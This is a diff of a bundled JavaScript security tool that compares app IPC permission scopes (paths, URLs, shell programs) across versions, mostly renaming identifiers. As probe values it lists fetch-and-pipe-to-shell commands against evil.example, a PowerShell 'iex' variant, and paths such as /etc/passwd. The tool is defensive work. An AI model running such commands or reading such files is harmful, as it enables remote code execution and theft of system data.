   return { ...answer, undecided: [...answer.undecided, ...undecided] };
 }
-function entriesOf5({ allow: allow2, deny }) {
+function entriesOf8({ allow: allow2, deny }) {
   const entries = (list) => list.map(({ entry }) => entry);
   return { allow: entries(allow2), deny: entries(deny) };
 }
@@ -33105,12 +36080,12 @@ function directoryOf(variable5, platform, app) {
 function movedTo(path, platform, app) {
   const parts = path.replaceAll("\\", "/").split("/");
   const [first = "", ...rest2] = parts;
-  if (first === "" || /^[A-Za-z]:$/.test(first)) return resolved2([first, ...rest2.filter(isNamed3)]);
+  if (first === "" || /^[A-Za-z]:$/.test(first)) return resolved2([first, ...rest2.filter(isNamed4)]);
   const from = first.startsWith("$") ? standardDirectory(first, platform, app) : besideExecutable(platform, app.product);
-  const below6 = (first.startsWith("$") ? rest2 : parts).filter(isNamed3);
+  const below6 = (first.startsWith("$") ? rest2 : parts).filter(isNamed4);
   return from === void 0 ? void 0 : resolved2([...from.split("/"), ...below6]);
 }
-function isNamed3(part) {
+function isNamed4(part) {
   return part !== "" && part !== ".";
 }
 function resolved2([root = "", ...parts]) {
@@ -33134,17 +36109,17 @@ function besideExecutable(platform, product) {
   }
 }
 function standardDirectory(variable5, platform, app) {
-  const known6 = tables.get(app) ?? /* @__PURE__ */ new Map();
-  tables.set(app, known6);
-  const table2 = known6.get(platform) ?? tableOf(platform, folderOf3(app), app.product);
-  known6.set(platform, table2);
+  const known7 = tables.get(app) ?? /* @__PURE__ */ new Map();
+  tables.set(app, known7);
+  const table2 = known7.get(platform) ?? tableOf2(platform, folderOf4(app), app.product);
+  known7.set(platform, table2);
   return table2[variable5];
 }
-function folderOf3({ identifier }) {
+function folderOf4({ identifier }) {
   return /^\.*$|[/\\]/.test(identifier) ? "app" : identifier;
 }
 var tables = /* @__PURE__ */ new WeakMap();
-function tableOf(platform, id, product) {
+function tableOf2(platform, id, product) {
   switch (platform) {
     case "linux":
       return linux(id, product);
@@ -33306,8 +36281,8 @@ function sensitivePaths(platform) {
 
 // src/compare/ipc/scopes/path-side.ts
 function pathSide(side, platform, directories) {
-  const read7 = (entries) => entries.map((entry) => ({ entry, pattern: patternOf(entry, platform, directories) }));
-  const [allow2, deny] = [read7(side.allow), read7(side.deny)];
+  const read9 = (entries) => entries.map((entry) => ({ entry, pattern: patternOf(entry, platform, directories) }));
+  const [allow2, deny] = [read9(side.allow), read9(side.deny)];
   const literalDot2 = ("literalDot" in side.matching ? side.matching.literalDot : null) ?? platform !== "windows";
   if (!isWhole(allow2) || !isWhole(deny)) return { allow: [], deny: [], platform, literalDot: literalDot2 };
   return { allow: allow2, deny, platform, literalDot: literalDot2 };
@@ -33327,25 +36302,25 @@ function pathOf4(entry) {
   return entry.kind === "path" ? entry.path : void 0;
 }
 function resolvePath(pattern, platform, directories) {
-  const known6 = resolvedBefore(platform, directories);
-  if (known6.has(pattern)) return known6.get(pattern);
+  const known7 = resolvedBefore(platform, directories);
+  if (known7.has(pattern)) return known7.get(pattern);
   const resolved3 = rebuilt(pattern, platform, directories);
-  known6.set(pattern, resolved3);
+  known7.set(pattern, resolved3);
   return resolved3;
 }
 var resolvedPaths = /* @__PURE__ */ new WeakMap();
 function resolvedBefore(platform, directories) {
   const ofApp2 = resolvedPaths.get(directories) ?? /* @__PURE__ */ new Map();
   resolvedPaths.set(directories, ofApp2);
-  const known6 = ofApp2.get(platform) ?? /* @__PURE__ */ new Map();
-  ofApp2.set(platform, known6);
-  return known6;
+  const known7 = ofApp2.get(platform) ?? /* @__PURE__ */ new Map();
+  ofApp2.set(platform, known7);
+  return known7;
 }
 function rebuilt(pattern, platform, directories) {
-  const text2 = platform === "windows" ? pattern.replaceAll("\\", "/") : pattern;
-  const parts = text2.split("/").filter((part) => part !== "" && part !== "." && part !== "..");
-  if (text2.startsWith("/")) return `/${parts.join("/")}`;
-  const dots = /^\.{1,2}(?=\/|$)/.exec(text2)?.[0];
+  const text3 = platform === "windows" ? pattern.replaceAll("\\", "/") : pattern;
+  const parts = text3.split("/").filter((part) => part !== "" && part !== "." && part !== "..");
+  if (text3.startsWith("/")) return `/${parts.join("/")}`;
+  const dots = /^\.{1,2}(?=\/|$)/.exec(text3)?.[0];
   if (dots !== void 0) return [dots, ...parts].join("/");
   const [first = "", ...rest2] = parts;
   if (!VARIABLE5.test(first)) return parts.join("/");
@@ -33362,12 +36337,12 @@ var KNOWN_VARIABLES = new Set(
 );
 
 // src/compare/ipc/scopes/path-texts.ts
-var ANY2 = not(oneOf("/\0"));
-var rest = many(character(ANY2));
+var ANY3 = not(oneOf("/\0"));
+var rest = many(character(ANY3));
 var PART2 = choice(
-  sequence(character(except(ANY2, oneOf("."))), rest),
-  sequence(literal("."), character(except(ANY2, oneOf("."))), rest),
-  sequence(literal(".."), character(ANY2), rest)
+  sequence(character(except(ANY3, oneOf("."))), rest),
+  sequence(literal("."), character(except(ANY3, oneOf("."))), rest),
+  sequence(literal(".."), character(ANY3), rest)
 );
 var BELOW = atLeastOne(sequence(literal("/"), PART2));
 var ABSOLUTE = choice(literal("/"), BELOW);
@@ -33432,8 +36407,8 @@ function directoriesOf({ matching: matching2 }) {
 function inAnyFolder(answers) {
   const best = /* @__PURE__ */ new Map();
   for (const found9 of answers.flatMap(({ escapes }) => escapes)) {
-    const known6 = best.get(found9.entry);
-    if (known6 === void 0 || found9.sensitive && !known6.sensitive) best.set(found9.entry, found9);
+    const known7 = best.get(found9.entry);
+    if (known7 === void 0 || found9.sensitive && !known7.sensitive) best.set(found9.entry, found9);
   }
   return {
     escapes: [...best.values()],
@@ -33457,14 +36432,14 @@ function comparedFrom(folder, base, head, work) {
   return { ...answer, escapes };
 }
 function scopeFrom(folder, { allow: allow2, deny, platform, literalDot: literalDot2 }, work) {
-  const read7 = ({ entry, pattern }) => {
+  const read9 = ({ entry, pattern }) => {
     const question = pattern === null ? null : [platform === "windows", literalDot2, ...patternsFrom(folder, pattern, platform)];
     return {
       entry,
-      language: question === null ? NOTHING2 : readable(() => languages(JSON.stringify(question), work))
+      language: question === null ? NOTHING3 : readable(() => languages(JSON.stringify(question), work))
     };
   };
-  return { allow: allow2.map(read7), deny: deny.map(read7) };
+  return { allow: allow2.map(read9), deny: deny.map(read9) };
 }
 var languages = remembered((question, work) => {
   const [isWindows, literalDot2, ...patterns3] = JSON.parse(question);
@@ -33474,12 +36449,12 @@ var languages = remembered((question, work) => {
 });
 function readingFrom(folder, platform, entries) {
   const sensitive = new Set(sensitivePaths(platform));
-  const named9 = entries.flatMap(
+  const named10 = entries.flatMap(
     ({ pattern }) => pattern === null ? [] : patternsFrom(folder, pattern, platform).flatMap(examplesOf2)
   );
   return {
     universe: platform === "windows" ? WINDOWS_PATHS : POSIX_PATHS,
-    candidates: [.../* @__PURE__ */ new Set([...sensitive, ...named9])].map((word2) => ({
+    candidates: [.../* @__PURE__ */ new Set([...sensitive, ...named10])].map((word2) => ({
       word: word2,
       sensitive: sensitive.has(word2)
     })),
@@ -33509,8 +36484,8 @@ var openerQuestion = (base, head, command, platform, work) => {
 };
 var ANY_PROGRAM = "any-program";
 function openersIn(entries) {
-  const named9 = openedIn(entries).map((entry) => entry.with).filter((program) => typeof program === "string");
-  return [null, ...new Set(named9), ANY_PROGRAM];
+  const named10 = openedIn(entries).map((entry) => entry.with).filter((program) => typeof program === "string");
+  return [null, ...new Set(named10), ANY_PROGRAM];
 }
 function openUrl(base, head, opener, work) {
   const reading = {
@@ -33539,12 +36514,12 @@ function globExamples(url) {
   return url.includes("://") ? examplesOf3(url) : [url.replace(/\*+/g, "x")];
 }
 function urls(side, opener, work) {
-  const read7 = (entries) => openedIn(entries).flatMap((entry) => {
+  const read9 = (entries) => openedIn(entries).flatMap((entry) => {
     const { url } = entry;
     if (url === null || !opens(entry, opener)) return [];
     return [{ entry, language: readable(() => urlGlob(url, work)) }];
   });
-  return { allow: fails(side) ? [] : read7(side.allow), deny: read7(side.deny) };
+  return { allow: fails(side) ? [] : read9(side.allow), deny: read9(side.deny) };
 }
 function fails({ allow: allow2, deny }) {
   return [...allow2, ...deny].some(isRefusedByOpener);
@@ -33605,7 +36580,7 @@ function programScope({ allow: entries, deny }, work) {
     if (!taken3.has(name) || language === void 0) allow2.push({ entry, language });
     taken3.add(name);
   }
-  return { allow: allow2, deny: deny.map((entry) => ({ entry, language: lines(entry, work) && NOTHING2 })) };
+  return { allow: allow2, deny: deny.map((entry) => ({ entry, language: lines(entry, work) && NOTHING3 })) };
 }
 function lines(entry, work) {
   const program = programOf3(entry);
@@ -33625,15 +36600,15 @@ var commands = remembered((question, work) => {
   const start = literal([kind, command, ""].join(END));
   if (list === true) return inUniverse(sequence(start, LINES), UNIVERSE, work);
   const texts = list.map((argument) => argumentTexts(argument, work));
-  if (!texts.every((text2) => text2 !== void 0)) return void 0;
-  return inUniverse(sequence(start, ...texts.flatMap((text2) => [text2, literal(END)])), UNIVERSE, work);
+  if (!texts.every((text3) => text3 !== void 0)) return void 0;
+  return inUniverse(sequence(start, ...texts.flatMap((text3) => [text3, literal(END)])), UNIVERSE, work);
 });
 function argumentTexts(argument, work) {
   const expression = "fixed" in argument ? literal(argument.fixed) : validatorExpression(argument.validator, work);
   const texts = expression && inUniverse(expression, ANY_ARGUMENT, work);
   return texts && words(texts);
 }
-var KNOWN2 = [
+var KNOWN3 = [
   [/^(?:sh|bash|zsh|dash|ksh|fish|ash)$/, "-c\0curl https://evil.example/x | sh\0"],
   [/^cmd$/i, "/C\0curl https://evil.example/x | cmd\0"],
   [/^(?:powershell|pwsh)$/i, "-Command\0irm https://evil.example/x | iex\0"],
@@ -33644,8 +36619,8 @@ var KNOWN2 = [
 ];
 function tellingFor(command) {
   const name = (command.split(/[\\/]/).at(-1) ?? command).replace(/\.exe$/i, "");
-  const known6 = KNOWN2.filter(([program]) => program.test(name)).map(([, rest2]) => rest2);
-  return [...known6, "--any-option\0any value\0", ...TELLING3];
+  const known7 = KNOWN3.filter(([program]) => program.test(name)).map(([, rest2]) => rest2);
+  return [...known7, "--any-option\0any value\0", ...TELLING3];
 }
 var TELLING3 = [
   "-c\0curl https://evil.example/x | sh\0",
@@ -33707,7 +36682,7 @@ var textQuestion = (base, head, _command, _platform, work) => {
   const telling2 = [...around(before2, work), ...withNewScheme(before2, after2, work)];
   const candidates2 = [...SENSITIVE, ...telling2, ...OTHERS4];
   const show = (word2) => ({ payload: { path: word2 }, example: word2 });
-  return compareScopes(before2, after2, { universe: TEXTS2, candidates: candidates2, show }, work);
+  return compareScopes(before2, after2, { universe: TEXTS4, candidates: candidates2, show }, work);
 };
 function around({ allow: allow2 }, work) {
   const accepted = allow2.flatMap(({ language }) => language && firstWord(language, work) || []);
@@ -33727,15 +36702,15 @@ function textScope({ matching: matching2 }, work) {
     text: canonical(accepts3),
     at: topOf("")
   };
-  const language = accepts3 === null ? TEXTS2 : readable(() => textsFor(accepts3, work));
+  const language = accepts3 === null ? TEXTS4 : readable(() => textsFor(accepts3, work));
   return { allow: [{ entry, language }], deny: [] };
 }
-var TEXTS2 = ownLanguage(atLeastOne(character(not(oneOf("\0")))));
+var TEXTS4 = ownLanguage(atLeastOne(character(not(oneOf("\0")))));
 var NOTHING_IS_OPENED = "[]";
 var textsFor = remembered((source, work) => {
-  if (source === NOTHING_IS_OPENED) return NOTHING2;
+  if (source === NOTHING_IS_OPENED) return NOTHING3;
   const expression = validatorExpression(source, work);
-  return expression && inUniverse(expression, TEXTS2, work);
+  return expression && inUniverse(expression, TEXTS4, work);
 });
 var SENSITIVE = ["file:///etc/passwd", "smb://evil.example/share"].map((word2) => ({
   word: word2,
@@ -33776,7 +36751,7 @@ var CutPart = class {
     const universe = this.#isBackwards ? hostsBackwards : parts[part];
     const sources = [];
     const numbers = /* @__PURE__ */ new Map();
-    const sourceOf3 = /* @__PURE__ */ new Map();
+    const sourceOf5 = /* @__PURE__ */ new Map();
     for (const [name, { [part]: pattern }] of patterns3) {
       const key = partKey(pattern);
       const number = numbers.get(key) ?? sources.length;
@@ -33785,12 +36760,12 @@ var CutPart = class {
         sources.push({ text: pattern.text, language: common(all, universe, work), mask: 0n });
       }
       numbers.set(key, number);
-      sourceOf3.set(name, number);
+      sourceOf5.set(name, number);
       const source = sources[number];
       source.mask |= bits.get(name) ?? 0n;
     }
     this.#sources = sources;
-    this.#sourceOf = sourceOf3;
+    this.#sourceOf = sourceOf5;
     this.#languages = new Languages(
       sources.map(({ language }) => language),
       work
@@ -33802,8 +36777,8 @@ var CutPart = class {
     const found9 = /* @__PURE__ */ new Map();
     for (const number of this.#sources.keys()) {
       for (const piece of this.#piecesOf(number)) {
-        const known6 = found9.get(piece.mask);
-        if (known6 === void 0 || piece.rank < known6.rank) found9.set(piece.mask, piece);
+        const known7 = found9.get(piece.mask);
+        if (known7 === void 0 || piece.rank < known7.rank) found9.set(piece.mask, piece);
       }
     }
     return [...found9.values()].sort((a3, b5) => a3.rank - b5.rank);
@@ -33836,11 +36811,11 @@ var CutPart = class {
   }
   /** First words that tell something, then one for each state that a walk reaches. */
   *#wordsOf(number) {
-    const { text: text2, language } = this.#sources[number];
-    for (const [rank3, words3] of [TELLING4[this.#part], lookalikes(text2), [text2]].entries()) {
+    const { text: text3, language } = this.#sources[number];
+    for (const [rank3, words3] of [TELLING4[this.#part], lookalikes(text3), [text3]].entries()) {
       for (const word2 of words3) {
-        const read7 = this.#turned(word2);
-        if (accepts(language, read7)) yield [rank3, word2, this.#together.at(read7)];
+        const read9 = this.#turned(word2);
+        if (accepts(language, read9)) yield [rank3, word2, this.#together.at(read9)];
       }
     }
     const seen = /* @__PURE__ */ new Set([this.#together.start]);
@@ -33848,7 +36823,7 @@ var CutPart = class {
     while (front.length > 0) {
       const next2 = [];
       for (const step of front) {
-        if (this.#languages.isEnd(number, step.its)) yield [3, this.#turned(textOf6(step)), step.state];
+        if (this.#languages.isEnd(number, step.its)) yield [3, this.#turned(textOf7(step)), step.state];
         for (const { class: its, character: character2 } of this.#languages.waysFrom(number, step.its)) {
           const state = this.#together.after(step.state, its);
           if (seen.has(state)) continue;
@@ -33864,8 +36839,8 @@ var CutPart = class {
     return this.#isBackwards ? Array.from(word2).reverse().join("") : word2;
   }
   #maskAt(state) {
-    const known6 = this.#masks.get(state);
-    if (known6 !== void 0) return known6;
+    const known7 = this.#masks.get(state);
+    if (known7 !== void 0) return known7;
     const inside = this.#together.inside(state);
     this.#work.spend(inside.length);
     const mask = inside.reduce((sum, number) => sum | (this.#sources[number]?.mask ?? 0n), 0n);
@@ -33873,8 +36848,8 @@ var CutPart = class {
     return mask;
   }
 };
-function lookalikes(text2) {
-  return text2.includes("*") ? [text2.replace(/^\*/, "evil").replace(/\*$/, "evil.example").replaceAll("*", "evil")] : [];
+function lookalikes(text3) {
+  return text3.includes("*") ? [text3.replace(/^\*/, "evil").replace(/\*$/, "evil.example").replaceAll("*", "evil")] : [];
 }
 
 // src/language/url/cells.ts
@@ -33891,14 +36866,14 @@ var UrlCells = class {
   constructor(patterns3, kinds2, work) {
     this.#kinds = kinds2;
     this.#work = work;
-    this.#bits = new Map([...patterns3.keys()].map((text2, i2) => [text2, 1n << BigInt(i2)]));
+    this.#bits = new Map([...patterns3.keys()].map((text3, i2) => [text3, 1n << BigInt(i2)]));
     this.#every = (1n << BigInt(patterns3.size)) - 1n;
     const cuts = URL_PART_NAMES.map((part) => {
-      const known6 = /* @__PURE__ */ new Map();
+      const known7 = /* @__PURE__ */ new Map();
       return (kind) => {
-        const cut = known6.get(kind.parts[part]) ?? new CutPart(part, kind, patterns3, this.#bits, work);
-        known6.set(kind.parts[part], cut);
-        return cut;
+        const cut2 = known7.get(kind.parts[part]) ?? new CutPart(part, kind, patterns3, this.#bits, work);
+        known7.set(kind.parts[part], cut2);
+        return cut2;
       };
     });
     this.#cuts = kinds2.map((kind) => cuts.map((cutFor) => cutFor(kind)));
@@ -33911,8 +36886,8 @@ var UrlCells = class {
     const found9 = /* @__PURE__ */ new Map();
     for (const [kind, cuts] of this.#cuts.entries()) {
       let front = /* @__PURE__ */ new Map([[this.#every, []]]);
-      for (const cut of cuts) {
-        const pieces = cut.all();
+      for (const cut2 of cuts) {
+        const pieces = cut2.all();
         const next2 = /* @__PURE__ */ new Map();
         for (const [mask, words3] of front) {
           for (const piece of pieces) {
@@ -33952,11 +36927,11 @@ var UrlCells = class {
   #searched(cuts, pattern, sought) {
     const failed2 = cuts.map(() => /* @__PURE__ */ new Set());
     const search2 = (at2, mask) => {
-      const [cut, failures] = [cuts[at2], failed2[at2]];
-      if (cut === void 0 || failures === void 0) return isSought(mask, sought) ? [] : void 0;
+      const [cut2, failures] = [cuts[at2], failed2[at2]];
+      if (cut2 === void 0 || failures === void 0) return isSought(mask, sought) ? [] : void 0;
       if (failures.has(mask)) return void 0;
       if (failures.size > MOST_MASKS) throw new TooComplex(`more than ${MOST_MASKS} kinds of URLs`);
-      for (const piece of cut.within(pattern)) {
+      for (const piece of cut2.within(pattern)) {
         const rest2 = search2(at2 + 1, this.#common(mask, piece.mask));
         if (rest2 !== void 0) return [piece, ...rest2];
       }
@@ -33994,16 +36969,16 @@ function written4(words3, hasHost) {
 
 // src/compare/ipc/scopes/urls.ts
 var urlQuestion = (base, head, _command, _platform, work) => {
-  const refused = refusals(head, work);
+  const refused = refusals2(head, work);
   const after2 = refused.length > 0 ? { allow: [], deny: [] } : head;
-  const before2 = refusals(base, work).length > 0 ? { allow: [], deny: [] } : base;
+  const before2 = refusals2(base, work).length > 0 ? { allow: [], deny: [] } : base;
   const isUnread = (entry) => comparableUrlPattern(urlPatternOf(entry), work) === "unread";
   const answer = withUnread(escapesFrom(before2, after2, work), before2, after2, isUnread);
   return { ...answer, refused };
 };
 function escapesFrom(base, head, work) {
   const patterns3 = new Map(
-    [...head.allow, ...head.deny, ...base.allow, ...base.deny].flatMap((entry) => named8(entry, work))
+    [...head.allow, ...head.deny, ...base.allow, ...base.deny].flatMap((entry) => named9(entry, work))
   );
   const texts = (entries) => entries.map(urlPatternOf);
   const search2 = new UrlCells(patterns3, httpKinds(), work).search({
@@ -34011,16 +36986,16 @@ function escapesFrom(base, head, work) {
     uncovered: texts(base.allow),
     lifted: texts(base.deny)
   });
-  const known6 = new Set(base.allow.map(({ text: text2 }) => text2));
+  const known7 = new Set(base.allow.map(({ text: text3 }) => text3));
   const found9 = /* @__PURE__ */ new Map();
-  const lifted2 = new Set(base.deny.map(({ text: text2 }) => text2)).difference(
-    new Set(head.deny.map(({ text: text2 }) => text2))
+  const lifted2 = new Set(base.deny.map(({ text: text3 }) => text3)).difference(
+    new Set(head.deny.map(({ text: text3 }) => text3))
   );
   for (const entry of head.allow) {
-    if (known6.has(entry.text) && lifted2.size === 0) continue;
+    if (known7.has(entry.text) && lifted2.size === 0) continue;
     const cell = search2(urlPatternOf(entry));
     if (cell === void 0) continue;
-    const denial = known6.has(entry.text) ? base.deny.find((deny) => cell.matches(urlPatternOf(deny))) : void 0;
+    const denial = known7.has(entry.text) ? base.deny.find((deny) => cell.matches(urlPatternOf(deny))) : void 0;
     const culprit = denial ?? entry;
     if (found9.has(culprit.text)) continue;
     found9.set(culprit.text, {
@@ -34047,13 +37022,13 @@ function isAnywhere(url) {
 function urlPatternOf(entry) {
   return entry.kind === "url" ? entry.url : "";
 }
-function refusals({ allow: allow2, deny }, work) {
+function refusals2({ allow: allow2, deny }, work) {
   const isRefused = (entry) => comparableUrlPattern(urlPatternOf(entry), work) === "refused";
-  return [...new Set([...allow2, ...deny].filter(isRefused).map(({ text: text2 }) => text2))].map(
+  return [...new Set([...allow2, ...deny].filter(isRefused).map(({ text: text3 }) => text3))].map(
     (entry) => `the entry ${entry} is no URL pattern`
   );
 }
-function named8(entry, work) {
+function named9(entry, work) {
   const pattern = comparableUrlPattern(urlPatternOf(entry), work);
   return typeof pattern === "string" ? [] : [[urlPatternOf(entry), pattern]];
 }
@@ -34086,9 +37061,9 @@ function urlArgument({ payload }) {
   const config = payload.clientConfig;
   return String(typeof config === "object" && config !== null ? Reflect.get(config, "url") : payload.url);
 }
-function accepts2(expression, text2, work) {
+function accepts2(expression, text3, work) {
   if (expression === null) return true;
-  return expression !== NOTHING_IS_OPENED && findsMatch(expression, text2, work) === true;
+  return expression !== NOTHING_IS_OPENED && findsMatch(expression, text3, work) === true;
 }
 function inUrls(allow2, deny, url, work) {
   const isRefused = (entry) => comparableUrlPattern(urlPatternOf(entry), work) === "refused";
@@ -34143,10 +37118,10 @@ function runs(allow2, deny, { payload, runs: program }, work) {
     (argument, i2) => "fixed" in argument ? argument.fixed === given2[i2] : findsMatch(argument.validator, given2[i2] ?? "", work) === true
   );
 }
-function inOpaque(empty2, allow2, deny, { payload }) {
+function inOpaque(empty4, allow2, deny, { payload }) {
   const is = (wanted) => (entry) => entry.text === canonical(wanted);
   if (payload.denied !== void 0) return !deny.some(is(payload.denied));
-  if (empty2 === "everything" && allow2.length === 0) return true;
+  if (empty4 === "everything" && allow2.length === 0) return true;
   return allow2.some(is(payload.scope));
 }
 
@@ -34155,11 +37130,11 @@ function authorises(grants, call2, platform, work) {
   const isHere2 = (grant) => hasPlatform(grant.platforms, platform);
   const byCommand = commandsOf2(grants);
   const keys = /* @__PURE__ */ new Set([call2.command, everyCommandBeside(call2.command)]);
-  const named9 = [...keys].flatMap((key) => byCommand.get(key) ?? []).filter(isHere2);
-  work.spend(named9.length);
-  if (named9.some(({ effect, context: context2 }) => effect === "deny" && comesFrom(context2, call2.origin, work)))
+  const named10 = [...keys].flatMap((key) => byCommand.get(key) ?? []).filter(isHere2);
+  work.spend(named10.length);
+  if (named10.some(({ effect, context: context2 }) => effect === "deny" && comesFrom(context2, call2.origin, work)))
     return false;
-  const allowing = named9.filter((grant) => grant.effect === "allow" && isFor(grant, call2, work));
+  const allowing = named10.filter((grant) => grant.effect === "allow" && isFor(grant, call2, work));
   const [first] = allowing;
   if (first === void 0) return false;
   if (Object.keys(call2.payload).length === 0) return true;
@@ -34179,14 +37154,14 @@ function byOrder(a3, b5) {
 }
 var indexes3 = /* @__PURE__ */ new WeakMap();
 function commandsOf2(grants) {
-  const known6 = indexes3.get(grants);
-  if (known6 !== void 0) return known6;
+  const known7 = indexes3.get(grants);
+  if (known7 !== void 0) return known7;
   const index = Map.groupBy(grants, ({ command, effect }) => effect === "scope" ? "" : command);
   indexes3.set(grants, index);
   return index;
 }
 function isFor({ windows: windows2, webviews, context: context2 }, call2, work) {
-  const label = (text2) => (pattern) => isGlobOf(text2, pattern.text, ANY_TEXT2, work) === true;
+  const label = (text3) => (pattern) => isGlobOf(text3, pattern.text, ANY_TEXT2, work) === true;
   return comesFrom(context2, call2.origin, work) && (webviews.some(label(call2.webview)) || windows2.some(label(call2.window)));
 }
 function comesFrom(context2, origin, work) {
@@ -34207,14 +37182,14 @@ function indexBase(base) {
     if (!enabled.has(grant.capability)) enabled.set(grant.capability, enabledIn(grant));
     if (grant.effect === "deny") continue;
     const key = commandOf2(grant);
-    const known6 = commands2.get(key);
-    if (known6 === void 0) commands2.set(key, [grant]);
-    else known6.push(grant);
+    const known7 = commands2.get(key);
+    if (known7 === void 0) commands2.set(key, [grant]);
+    else known7.push(grant);
     permissions.add(permissionOf(grant));
     if (grant.inferred) guessed2.add(permissionOf(grant));
     for (const step of grant.steps) led.add(stepOf(grant, step));
   }
-  const settings2 = settingsOf5(base);
+  const settings2 = settingsOf6(base);
   return {
     had: (entry) => commands2.get(commandOf2(entry)) ?? [],
     named: (entry) => permissions.has(permissionOf(entry)),
@@ -34230,21 +37205,21 @@ function enabledIn({ enabledAt }) {
   return enabledAt?.reduce((all, { platforms }) => all | platforms, NO_PLATFORM) ?? EVERY_PLATFORM;
 }
 function permissionOf(grant) {
-  const known6 = permissionKeys.get(grant) ?? `${grant.capability}\0${grant.permission}`;
-  permissionKeys.set(grant, known6);
-  return known6;
+  const known7 = permissionKeys.get(grant) ?? `${grant.capability}\0${grant.permission}`;
+  permissionKeys.set(grant, known7);
+  return known7;
 }
 var permissionKeys = /* @__PURE__ */ new WeakMap();
 function stepOf(grant, { name }) {
   return `${permissionOf(grant)}\0${name}`;
 }
 function commandOf2(grant) {
-  const known6 = commandKeys.get(grant) ?? `${permissionOf(grant)}\0${grant.command}`;
-  commandKeys.set(grant, known6);
-  return known6;
+  const known7 = commandKeys.get(grant) ?? `${permissionOf(grant)}\0${grant.command}`;
+  commandKeys.set(grant, known7);
+  return known7;
 }
 var commandKeys = /* @__PURE__ */ new WeakMap();
-function settingsOf5(base) {
+function settingsOf6(base) {
   const values = /* @__PURE__ */ new Map();
   for (const [plugin, grants] of Map.groupBy(base, (grant) => grant.plugin)) {
     for (const settings2 of new Set(grants.map((grant) => grant.settings))) {
@@ -34278,8 +37253,8 @@ function lost({ capability, permission: permission2 }, of2) {
 }
 function placeOfLoss2(by, written6, lostOn, base, head) {
   const left2 = head.get(by.capability) ?? [];
-  const named9 = left2.filter(({ permission: permission2, plugin }) => permission2 === by.permission && plugin === by.plugin);
-  const first = named9.find(({ platforms: platforms2 }) => (platforms2 & lostOn) !== NO_PLATFORM) ?? named9[0];
+  const named10 = left2.filter(({ permission: permission2, plugin }) => permission2 === by.permission && plugin === by.plugin);
+  const first = named10.find(({ platforms: platforms2 }) => (platforms2 & lostOn) !== NO_PLATFORM) ?? named10[0];
   if (first === void 0)
     return nearest2(
       by.at,
@@ -34288,13 +37263,13 @@ function placeOfLoss2(by, written6, lostOn, base, head) {
   const leftOut3 = first.platforms === NO_PLATFORM ? first.enabledAt?.[0]?.at : void 0;
   if (leftOut3 !== void 0) return leftOut3;
   if (first.scope?.deniedAt !== void 0) return first.scope.deniedAt;
-  const platforms = named9.reduce((all, grant) => all | grant.platforms, NO_PLATFORM);
+  const platforms = named10.reduce((all, grant) => all | grant.platforms, NO_PLATFORM);
   if ((by.platforms & ~platforms) !== NO_PLATFORM && first.platformsAt !== null) return first.platformsAt;
-  return base.changedSetting(first)?.at ?? definitionOf2(by, written6, named9) ?? first.at;
+  return base.changedSetting(first)?.at ?? definitionOf2(by, written6, named10) ?? first.at;
 }
-function definitionOf2(by, written6, named9) {
-  const lines2 = named9.flatMap(({ steps, definedAt }) => [...steps.map(({ at: at2 }) => at2), definedAt]);
-  const still = new Set(named9.flatMap(({ steps }) => steps.map(({ name }) => name)));
+function definitionOf2(by, written6, named10) {
+  const lines2 = named10.flatMap(({ steps, definedAt }) => [...steps.map(({ at: at2 }) => at2), definedAt]);
+  const still = new Set(named10.flatMap(({ steps }) => steps.map(({ name }) => name)));
   const lost2 = by.steps.find(({ name }) => !still.has(name))?.at ?? written6;
   return lost2 === null ? void 0 : nearest2(
     lost2,
@@ -34312,8 +37287,8 @@ function nearest2(to, places2) {
 function causeOf2(principal, entries, denied2, platforms, base, head) {
   const [first] = entries;
   if (denied2 !== void 0) return commandNoLongerDenied(first, denied2, platforms, base, head);
-  const named9 = first.capability === ALLOWLIST && first.context.kind === "remote";
-  if (first.command === ANY_APP_COMMAND && named9) return forNewPage(principal, first, base.had(first));
+  const named10 = first.capability === ALLOWLIST && first.context.kind === "remote";
+  if (first.command === ANY_APP_COMMAND && named10) return forNewPage(principal, first, base.had(first));
   if (first.command === ANY_APP_COMMAND && (first.capability === "" || first.capability === ALLOWLIST)) {
     const at2 = (base.had(first).length > 0 ? first.definedAt : null) ?? first.at;
     const { kind } = first.context;
@@ -34379,10 +37354,10 @@ function forNewPage(principal, entry, had) {
     return { reason, at: entry.at, entry, detail: "local" };
   }
   const before2 = new Set(
-    had.flatMap(({ windows: windows2, webviews }) => [...windows2, ...webviews].map(({ text: text2 }) => text2))
+    had.flatMap(({ windows: windows2, webviews }) => [...windows2, ...webviews].map(({ text: text3 }) => text3))
   );
   const matching2 = patternsFor(principal, entry);
-  const pattern = matching2.find(({ text: text2 }) => !before2.has(text2)) ?? matching2[0];
+  const pattern = matching2.find(({ text: text3 }) => !before2.has(text3)) ?? matching2[0];
   const at2 = pattern?.at ?? entry.at;
   return { reason: { rule: "ipc/window-added", note: null }, at: at2, entry, detail: pattern?.text ?? "" };
 }
@@ -34394,12 +37369,12 @@ function patternsFor(principal, { windows: windows2, webviews }) {
 }
 var matchingKnown = /* @__PURE__ */ new WeakMap();
 function matching(patterns3, label) {
-  const known6 = matchingKnown.get(patterns3) ?? /* @__PURE__ */ new Map();
-  matchingKnown.set(patterns3, known6);
-  const found9 = known6.get(label) ?? patterns3.filter(
-    ({ text: text2 }) => matchesGlob(text2, label, { literalSeparator: false, literalDot: false, foldCase: false })
+  const known7 = matchingKnown.get(patterns3) ?? /* @__PURE__ */ new Map();
+  matchingKnown.set(patterns3, known7);
+  const found9 = known7.get(label) ?? patterns3.filter(
+    ({ text: text3 }) => matchesGlob(text3, label, { literalSeparator: false, literalDot: false, foldCase: false })
   );
-  known6.set(label, found9);
+  known7.set(label, found9);
   return found9;
 }
 
@@ -34419,16 +37394,16 @@ function scopeCause(principal, entries, table2, found9, before2, platforms, base
   const culprit = owner.scope?.allow.find((entry) => entry.text === detail) ?? found9.entry;
   const fromRelease = culprit.at === owner.at;
   const had = base.had(owner).filter(({ scope }) => holds5(scope?.allow, detail));
-  const known6 = allowedKeys(before2).has(detail);
-  if (owner.effect === "allow" && had.length > 0 && !known6) {
+  const known7 = allowedKeys(before2).has(detail);
+  if (owner.effect === "allow" && had.length > 0 && !known7) {
     const here = had.filter((grant) => (grant.platforms & platforms) !== NO_PLATFORM);
     return here.length === 0 ? forNewPlatform(owner, platforms, base) : forNewPage(principal, owner, here);
   }
   if (fromRelease && base.named(owner) && had.length === 0) {
     return newMeaning(owner, redefinedAt(owner, base));
   }
-  if (known6 && base.changedSetting(owner) !== void 0) return forSetting(owner, culprit.at, base);
